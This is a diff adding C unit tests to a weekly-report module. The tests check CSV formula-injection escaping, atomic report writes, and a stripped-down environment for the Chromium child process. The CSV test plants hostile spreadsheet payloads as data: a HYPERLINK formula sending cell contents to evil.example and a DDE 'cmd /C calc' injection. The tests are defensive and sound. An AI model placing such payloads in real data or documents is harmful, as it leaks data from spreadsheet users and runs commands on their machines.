@@ -2,6 +2,11 @@
  * exact regeneration of a past week after later observations, report_run records. */
 #include <jansson.h>
 #include "report_fixture.h"
+#include "halaltrack/csv.h"
+#include "csv_mem.h"
+#include <dirent.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 static void setup(void)
 {
@@ -376,7 +381,8 @@ Test(report_weekly, pdf_without_chromium_names_the_package)
     const char *argv[] = {
         tu_bin("cli/halaltrack"), "report", "weekly", "--format", "pdf", "-o",
         "/tmp/never.pdf",         NULL};
-    const char *env[] = {schema_env, "HALALTRACK_NOW=" RF_NOW, "PATH=/nonexistent", NULL};
+    const char *env[] = {schema_env, "HALALTRACK_NOW=" RF_NOW,
+                         "HALALTRACK_CHROMIUM=/nonexistent/chromium", NULL};
     struct tu_result r;
 
     snprintf(schema_env, sizeof(schema_env), "HALALTRACK_SCHEMA=%s", pgt_schema());
@@ -384,4 +390,183 @@ Test(report_weekly, pdf_without_chromium_names_the_package)
     cr_assert_eq(r.status, 1, "%s", r.err);
     cr_assert(strstr(r.err, "chromium"), "%s", r.err);
     tu_result_release(&r);
+}
+
+/* Issue 10, item 9 (CSV formula injection): business names typed by an MSME or taken
+ * from upstream reach the weekly CSV. A spreadsheet must see them as text: a single
+ * quote in front of every field that starts like a formula, numbers left alone. */
+Test(report_weekly, csv_formula_injection_is_defused)
+{
+    static const char *const hostile =
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
+    char *out, sql[256];
+    struct csv_mem m;
+    struct csv_reader *r;
+    struct csv_record rec;
+    struct ht_err err = HT_ERR_INIT;
+    int seen = 0;
+
+    snprintf(sql, sizeof(sql),
+             "UPDATE msme SET business_name = '%s' WHERE nib = '3575010000002'", hostile);
+    pgt_exec(sql);
+    pgt_exec("UPDATE application SET nama_pu = '@SUM(1+1)*cmd|'' /C calc''!A0'"
+             " WHERE id_reg = 'A6'");
+    pgt_exec("UPDATE msme SET business_name = '-2+3' WHERE nib = '3575020000004'");
+    out = weekly(RF_NOW, "en", NULL, "csv");
+    cr_assert(strstr(out, "\"'=HYPERLINK(\"\"http://evil.example/"), "%s", out);
+    cr_assert_eq(csv_mem_open(&m, out, strlen(out), NULL), 0);
+    r = m.r;
+    while (csv_next(r, &rec, &err) == CSV_OK) {
+        for (size_t i = 0; i < rec.nfields; i++) {
+            const char *f = rec.fields[i];
+
+            if (i == 2) /* value: a number, may be negative */
+                continue;
+            cr_assert(!strchr("=+-@\t\r", f[0]) || !f[0],
+                      "line %lu field %zu starts like a formula: %s", rec.line, i, f);
+            seen += f[0] == '\'' && strchr("=+-@", f[1]);
+        }
+    }
+    cr_assert_geq(seen, 2, "the hostile names are in the sheet, defused:\n%s", out);
+    csv_mem_close(&m);
+    free(out);
+}
+
+/* Runs `halaltrack report weekly ARGS` under /bin/sh with a shell prefix (ulimit...). */
+static struct tu_result run_in_sh(const char *prefix, const char *const *args,
+                                  const char *const *extra_env)
+{
+    static char schema_env[128], script[512];
+    const char *argv[16];
+    const char *env[8];
+    int n = 0, e = 0;
+
+    snprintf(schema_env, sizeof(schema_env), "HALALTRACK_SCHEMA=%s", pgt_schema());
+    snprintf(script, sizeof(script), "%s exec \"$0\" \"$@\"", prefix);
+    argv[n++] = "/bin/sh";
+    argv[n++] = "-c";
+    argv[n++] = script;
+    argv[n++] = tu_bin("cli/halaltrack");
+    for (size_t i = 0; args[i] && n < 15; i++)
+        argv[n++] = args[i];
+    argv[n] = NULL;
+    env[e++] = schema_env;
+    env[e++] = "HALALTRACK_NOW=" RF_NOW;
+    for (size_t i = 0; extra_env && extra_env[i] && e < 7; i++)
+        env[e++] = extra_env[i];
+    env[e] = NULL;
+    return tu_run(argv, env, NULL, 120);
+}
+
+/* Issue 10, "the weekly report file is written in place": a write that fails half-way
+ * (here the file size limit, as a full disk would) leaves the previous report whole and
+ * no temporary file behind. */
+Test(report_weekly, failed_write_leaves_the_old_file_intact)
+{
+    char dir[] = "/tmp/ht_weekly_XXXXXX", path[256], *text;
+    const char *args[] = {"report", "weekly", "--format", "html", "-o", path, NULL};
+    struct tu_result r;
+    FILE *fp;
+    int files = 0;
+    DIR *d;
+    struct dirent *ent;
+
+    cr_assert(mkdtemp(dir));
+    snprintf(path, sizeof(path), "%s/weekly.html", dir);
+    fp = fopen(path, "w");
+    cr_assert(fp);
+    fputs("last week's report\n", fp);
+    fclose(fp);
+    /* 2 blocks of 512 bytes: the HTML report is larger. SIGXFSZ ignored: write() fails.
+     */
+    r = run_in_sh("trap '' XFSZ; ulimit -f 2;", args, NULL);
+    cr_assert_eq(r.status, 1, "exit %d: %s", r.status, r.err);
+    cr_assert(strstr(r.err, "weekly.html"), "%s", r.err);
+    tu_result_release(&r);
+    text = tu_read_file(path, NULL);
+    cr_assert_str_eq(text, "last week's report\n");
+    free(text);
+    d = opendir(dir);
+    cr_assert(d);
+    while ((ent = readdir(d)))
+        files += strcmp(ent->d_name, ".") != 0 && strcmp(ent->d_name, "..") != 0;
+    closedir(d);
+    cr_assert_eq(files, 1, "a temporary file was left in %s", dir);
+    /* And without the limit the file is replaced. */
+    r = run_in_sh("", args, NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_result_release(&r);
+    text = tu_read_file(path, NULL);
+    cr_assert(strstr(text, "<!DOCTYPE html>"));
+    free(text);
+    unlink(path);
+    rmdir(dir);
+}
+
+/* Issue 10, "report --format pdf runs Chromium with the full environment": the browser
+ * gets an absolute path and a minimal environment, never the database password, and the
+ * temporary directory is removed without running rm. A stand-in for Chromium records
+ * what it got and writes a PDF. */
+Test(report_weekly, pdf_child_gets_a_minimal_environment)
+{
+    char dir[] = "/tmp/ht_pdf_XXXXXX", fake[256], envfile[256], argsfile[256], pdf[256];
+    char script[2048], chrom_env[300], *got, *profile, *end;
+    const char *args[] = {"report", "weekly", "--format", "pdf", "-o", pdf, NULL};
+    const char *extra[] = {chrom_env, "PGPASSWORD=Sekali99", "API_TOKEN=tok-123", NULL};
+    struct tu_result r;
+    struct stat st;
+    FILE *fp;
+
+    cr_assert(mkdtemp(dir));
+    snprintf(fake, sizeof(fake), "%s/chromium", dir);
+    snprintf(envfile, sizeof(envfile), "%s/env.txt", dir);
+    snprintf(argsfile, sizeof(argsfile), "%s/args.txt", dir);
+    snprintf(pdf, sizeof(pdf), "%s/weekly.pdf", dir);
+    snprintf(
+        script, sizeof(script),
+        "#!/bin/sh\n"
+        "/usr/bin/env > '%s'\n"
+        "for a; do\n"
+        "  echo \"$a\" >> '%s'\n"
+        "  case $a in --print-to-pdf=*) printf '%%%%PDF-1.4 fake\\n' > \"${a#*=}\";; "
+        "esac\n"
+        "done\n",
+        envfile, argsfile);
+    fp = fopen(fake, "w");
+    cr_assert(fp);
+    fputs(script, fp);
+    fclose(fp);
+    chmod(fake, 0755);
+    snprintf(chrom_env, sizeof(chrom_env), "HALALTRACK_CHROMIUM=%s", fake);
+    r = run_in_sh("", args, extra);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_result_release(&r);
+    got = tu_read_file(pdf, NULL);
+    cr_assert(got && strncmp(got, "%PDF-1.4 fake", 13) == 0, "%s", got ? got : "(none)");
+    free(got);
+    got = tu_read_file(envfile, NULL);
+    cr_assert(got, "the stand-in did not run");
+    cr_assert_null(strstr(got, "PGPASSWORD"), "%s", got);
+    cr_assert_null(strstr(got, "Sekali99"), "%s", got);
+    cr_assert_null(strstr(got, "API_TOKEN"), "%s", got);
+    cr_assert_null(strstr(got, "HALALTRACK_SCHEMA"), "%s", got);
+    cr_assert(strstr(got, "PATH=/usr/bin:/bin\n"), "%s", got);
+    cr_assert(strstr(got, "HOME=/tmp/halaltrack-report."), "%s", got);
+    free(got);
+    /* The private temporary directory (the profile's parent) is gone. */
+    got = tu_read_file(argsfile, NULL);
+    cr_assert(got);
+    profile = strstr(got, "--user-data-dir=");
+    cr_assert(profile, "%s", got);
+    profile += strlen("--user-data-dir=");
+    end = strstr(profile, "/profile");
+    cr_assert(end, "%s", got);
+    *end = '\0';
+    cr_assert_neq(stat(profile, &st), 0, "%s was left behind", profile);
+    free(got);
+    unlink(fake);
+    unlink(envfile);
+    unlink(argsfile);
+    unlink(pdf);
+    rmdir(dir);
 }
